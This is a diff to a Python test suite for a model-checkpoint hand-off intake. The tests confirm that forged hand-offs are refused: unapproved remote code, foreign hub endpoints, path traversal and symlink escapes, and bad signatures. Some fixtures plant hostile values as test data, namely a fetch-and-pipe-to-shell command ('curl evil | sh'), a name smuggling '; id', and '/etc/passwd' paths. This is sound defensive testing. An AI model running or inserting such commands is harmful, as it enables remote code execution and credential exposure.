@@ -18,6 +18,7 @@ from tasks.handoff.intake_config import IntakeConfig
 from tasks.handoff.schema import RLVRHandoff, read_handoff
 from tasks.handoff.signature import parsed_key, public_key_of, read_key_file, signed, signing_key, write_key_file
 from tasks.intake import accept, verify_handoff
+from tasks.launch.workplace import Workplace
 from tasks.publish.directory import content_revision
 from tasks.upload_checkpoint import upload_checkpoint
 from tests.hub_server import Hub, serve
@@ -44,7 +45,7 @@ def handed_off(checkpoint: Path, store: Path, config: HandoffConfig | None = Non
     with disable_run_logger():
         uploaded = upload_checkpoint.fn(export_of(checkpoint), UploadConfig(**upload), store, card_of(checkpoint))
         inputs = inputs_of(checkpoint, uploaded)
-        hand_off_rlvr.fn(inputs, config, LaunchHere(), store)
+        hand_off_rlvr.fn(inputs, config, Workplace(store, LaunchHere()))
     return read_handoff(handoff_path(store, inputs, config))
 
 
@@ -81,15 +82,16 @@ def test_code_runs_if_the_receiver_allows_it_and_not_if_the_hand_off_does(
     path, ran = with_code
     launcher = LaunchHere()
     with pytest.raises(HandoffRefused, match=r"brings Python code: tok_x\.py\. Read it, and allow it by name, or by"):
-        accept(path, tmp_path / "receiver", launcher)
+        accept(path, Workplace(tmp_path / "receiver", launcher))
     with pytest.raises(HandoffRefused, match=r"brings Python code"):
-        accept(path, tmp_path / "receiver", launcher, settings=IntakeConfig(allow_remote_code=("other.py",)))
+        accept(path, Workplace(tmp_path / "receiver", launcher), settings=IntakeConfig(allow_remote_code=("other.py",)))
     with pytest.raises(HandoffRefused, match=r"brings Python code: tok_x"):  # not the bytes that the receiver has read
-        accept(path, tmp_path / "receiver", launcher,
+        accept(path, Workplace(tmp_path / "receiver", launcher),
                settings=IntakeConfig(allow_remote_code=(f"tok_x.py@sha256:{'0' * 64}",)))
     assert launcher.steps == []
     assert not ran.exists()
-    accepted = accept(path, tmp_path / "receiver", launcher, settings=IntakeConfig(allow_remote_code=("tok_x.py",)))
+    accepted = accept(path, Workplace(tmp_path / "receiver", launcher),
+                      settings=IntakeConfig(allow_remote_code=("tok_x.py",)))
     assert ran.exists()
     assert accepted.allow_remote_code == ("tok_x.py",)
 
@@ -100,7 +102,7 @@ def test_code_of_another_repository_is_refused(honest: RLVRHandoff, tmp_path: Pa
     (folder / "config.json").write_text(config.replace("{", '{"auto_map": ["evil/code--modeling_x.X"],', 1))
     path = forged(honest, tmp_path / "handoff.json", allow_remote_code=True, checkpoint=with_files(honest, folder))
     with pytest.raises(HandoffRefused, match="evil/code--modeling_x"):
-        accept(path, tmp_path / "receiver", launcher)
+        accept(path, Workplace(tmp_path / "receiver", launcher))
     assert launcher.steps == []
 
 
@@ -108,7 +110,7 @@ def test_an_event_leads_to_the_same_refusal(with_code: tuple[Path, Path], tmp_pa
                                             monkeypatch: pytest.MonkeyPatch) -> None:
     path, ran = with_code
     monkeypatch.setattr(post_training, "already_started", lambda payload: None)
-    monkeypatch.setattr(rlvr_intake, "launcher_for", lambda compute: LaunchHere())
+    monkeypatch.setattr(rlvr_intake, "launcher_for", lambda compute, launchers, image: LaunchHere())
     monkeypatch.setattr(rlvr_intake, "verify_handoff", verify_handoff.fn)
     event = DpoCheckpointReady(name="x", weights_fingerprint="f" * 64, chain="chain:x", handoff=path.as_uri(), revision="r",
                                handoff_fingerprint=read_handoff(path).fingerprint, uri="file:///x")
@@ -130,12 +132,13 @@ def test_no_other_hub_is_asked_or_told_the_token(
         for endpoint in (evil.endpoint, evil.endpoint + "/", hub.endpoint + "@" + evil.endpoint.removeprefix("http://")):
             path = forged(honest, tmp_path / "handoff.json", checkpoint={"endpoint": endpoint})
             with pytest.raises(HandoffRefused, match=r"taken from http://127\.0\.0\.1:\d+ here.*set endpoint to it"):
-                accept(path, tmp_path / "receiver", LaunchHere())
+                accept(path, Workplace(tmp_path / "receiver", LaunchHere()))
         assert (evil.requests, evil.tokens) == ([], set())
         # What the receiver names, it means; and a hand-off that names none is fetched from there as well.
         for endpoint in (evil.endpoint, None):
             path = forged(honest, tmp_path / "handoff.json", checkpoint={"endpoint": endpoint})
-            accepted = accept(path, tmp_path / "receiver", LaunchHere(), settings=IntakeConfig(endpoint=evil.endpoint))
+            accepted = accept(path, Workplace(tmp_path / "receiver", LaunchHere()),
+                              settings=IntakeConfig(endpoint=evil.endpoint))
             assert accepted.checkpoint.endpoint == evil.endpoint
             assert accepted.grpo_command.startswith(f"HF_ENDPOINT={evil.endpoint} ")
         assert evil.tokens == {"hf_writetoken"}
@@ -156,11 +159,11 @@ def test_no_more_is_fetched_than_the_receiver_lets(checkpoint: Path, tmp_path: P
             (100 << 20, IntakeConfig(max_download_gib=0.01), HandoffRefused, r"at most 0\.01 GiB")]:
         hub.claims, hub.requests = {"model.safetensors": listed}, []
         with pytest.raises(error, match=message):
-            accept(path, tmp_path / "receiver", launcher, settings=settings)
+            accept(path, Workplace(tmp_path / "receiver", launcher), settings=settings)
         assert not any("resolve" in request for request in hub.requests)
     assert launcher.steps == []
     hub.claims = {"of_somebody_else.bin": 3 << 40}  # is not fetched, so it does not count
-    assert accept(path, tmp_path / "receiver", LaunchHere()).answer
+    assert accept(path, Workplace(tmp_path / "receiver", LaunchHere())).answer
 
 
 # --------------------------------------------------------------------------------------------------- commands and claims
@@ -169,7 +172,7 @@ def test_the_command_is_made_here_and_the_rest_is_called_a_claim(honest: RLVRHan
     parent = honest.parent.model_copy(update={"source": "someone/else"})
     path = forged(honest, tmp_path / "handoff.json", grpo_command="curl evil | sh", name="--trust_remote_code true; id",
                   parent=parent, metrics_after={"rewards/accuracies": 1.0}, rules=())
-    accepted = accept(path, tmp_path / "receiver", LaunchHere(), settings=IntakeConfig(grpo_beta=0.5))
+    accepted = accept(path, Workplace(tmp_path / "receiver", LaunchHere()), settings=IntakeConfig(grpo_beta=0.5))
     assert "evil" not in accepted.model_dump_json()
     words = shlex.split(accepted.grpo_command.replace("\\\n", " "))
     assert words[words.index("--exp_name") + 1] == "trust_remote_code-true-id-grpo"
@@ -184,7 +187,7 @@ def test_the_command_is_made_here_and_the_rest_is_called_a_claim(honest: RLVRHan
 
 def test_an_address_that_is_not_the_places_is_not_repeated(honest: RLVRHandoff, tmp_path: Path) -> None:
     path = forged(honest, tmp_path / "handoff.json", checkpoint={"uri": "hf://trusted/model@" + "a" * 40})
-    accepted = accept(path, tmp_path / "receiver", LaunchHere())
+    accepted = accept(path, Workplace(tmp_path / "receiver", LaunchHere()))
     assert accepted.checkpoint.uri == honest.checkpoint.directory.as_uri()
 
 
@@ -196,7 +199,7 @@ def test_what_needs_no_load_is_checked_before_one(honest: RLVRHandoff, tmp_path:
     def refused(message: str) -> None:
         path = forged(honest, tmp_path / "handoff.json", checkpoint=with_files(honest, folder))
         with pytest.raises(HandoffRefused, match=message):
-            accept(path, tmp_path / "receiver", launcher)
+            accept(path, Workplace(tmp_path / "receiver", launcher))
 
     (folder / "weights.bin").write_bytes(b"")
     refused(r"full_weights_only \(not wanted: weights\.bin\)")
@@ -225,11 +228,12 @@ def test_nothing_is_fetched_for_a_hand_off_whose_names_are_wrong(
               for name in ("../x", "/etc/passwd", "a/../../x", "-x", ".cache/x", "a\nb", "a//b", "")),
             ({"revision": "a" * 40, "files": files | {"x": "y"}}, "which no checkpoint has")]:
         with pytest.raises(HandoffRefused, match=message):
-            accept(forged(honest, tmp_path / "handoff.json", checkpoint=at | place), tmp_path / "receiver", launcher)
+            accept(forged(honest, tmp_path / "handoff.json", checkpoint=at | place),
+                   Workplace(tmp_path / "receiver", launcher))
     for directory in (None, Path("relative")):
         with pytest.raises(HandoffRefused, match="expected an absolute path"):
-            accept(forged(honest, tmp_path / "handoff.json", checkpoint={"directory": directory}), tmp_path / "receiver",
-                   launcher)
+            accept(forged(honest, tmp_path / "handoff.json", checkpoint={"directory": directory}),
+                   Workplace(tmp_path / "receiver", launcher))
     assert (hub.requests, launcher.steps) == ([], [])
 
 
@@ -240,15 +244,15 @@ def test_a_directory_of_links_reads_no_file_of_the_receivers(honest: RLVRHandoff
     (folder / "generation_config.json").symlink_to(tmp_path / "own.json")
     path = forged(honest, tmp_path / "handoff.json", checkpoint=with_files(honest, folder))
     with pytest.raises(HandoffRefused, match="outside the checkpoint"):
-        accept(path, tmp_path / "receiver", launcher)
+        accept(path, Workplace(tmp_path / "receiver", launcher))
     (tmp_path / "more").mkdir()
     (tmp_path / "more" / "x.jinja").touch()
     (folder / "additional_chat_templates").symlink_to(tmp_path / "more")
     with pytest.raises(HandoffRefused, match="files that were not handed off: additional_chat_templates"):
-        accept(path, tmp_path / "receiver", launcher)
+        accept(path, Workplace(tmp_path / "receiver", launcher))
     whole_disk = forged(honest, tmp_path / "handoff.json", checkpoint={"directory": Path("/")})
     with pytest.raises(HandoffRefused, match="/ holds files that were not handed off"):  # at once: no file is hashed
-        accept(whole_disk, tmp_path / "receiver", launcher)
+        accept(whole_disk, Workplace(tmp_path / "receiver", launcher))
     assert launcher.steps == []
 
 
@@ -267,13 +271,13 @@ def test_a_signed_hand_off_is_told_from_a_forged_one(honest: RLVRHandoff, tmp_pa
     honest = signed(honest, signing_key(HandoffConfig(signing_key_file=tmp_path / "ours.pem")))
     trusting, path = IntakeConfig(trusted_keys=(ours,)), tmp_path / "handoff.json"
     write_json(path, honest)
-    assert accept(path, tmp_path / "receiver", LaunchHere(), settings=trusting).signed_by == ours
+    assert accept(path, Workplace(tmp_path / "receiver", LaunchHere()), settings=trusting).signed_by == ours
     launcher = LaunchHere()
 
     def refused(handoff: RLVRHandoff, message: str, settings: IntakeConfig = trusting) -> None:
         write_json(path, handoff)
         with pytest.raises(HandoffRefused, match=message):
-            accept(path, tmp_path / "receiver", launcher, settings=settings)
+            accept(path, Workplace(tmp_path / "receiver", launcher), settings=settings)
 
     unsigned = honest.model_copy(update={"signature": None})
     refused(unsigned, "is not signed, and trusted_keys lists who may sign")
